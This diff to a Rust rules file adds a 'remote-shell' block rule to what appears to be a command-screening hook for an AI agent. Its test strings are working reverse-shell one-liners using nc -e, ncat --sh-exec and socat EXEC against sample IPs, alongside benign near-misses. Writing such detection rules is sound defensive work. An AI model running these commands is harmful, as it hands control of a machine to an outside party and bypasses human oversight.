@@ -74,7 +74,18 @@ pub const SECRET_IN_CONTENT: Rule = Rule {
     near_misses: &["@Write /w/proj/a.py|key = os.environ['AWS_KEY']"],
 };
 
+pub const REMOTE_SHELL: Rule = Rule {
+    id: "remote-shell",
+    family: F,
+    verdict: Block,
+    explanation: "A program started for a network peer: `nc -e /bin/sh`, `ncat --exec`, `socat … EXEC:`/`SYSTEM:`. Whoever is at the other end runs commands on this machine, none of which passes the hook.",
+    suggestion: "Never hand a shell to a network connection; use the agent's own tools for the work.",
+    fires: &["nc -e /bin/sh 203.0.113.10 4444", "ncat --sh-exec 'bash -i' 10.0.0.9 9001", "socat TCP:10.0.0.9:4444 EXEC:/bin/bash"],
+    near_misses: &["nc -zv db.internal 5432", "socat TCP-LISTEN:8080,fork TCP:localhost:3000", "ncat --version"],
+};
+
 pub const NETWORK_RULES: &[Rule] = &[
+    REMOTE_SHELL,
     EXFIL_FLOW,
     EXFIL_UPLOAD,
     TAINTED_EGRESS,
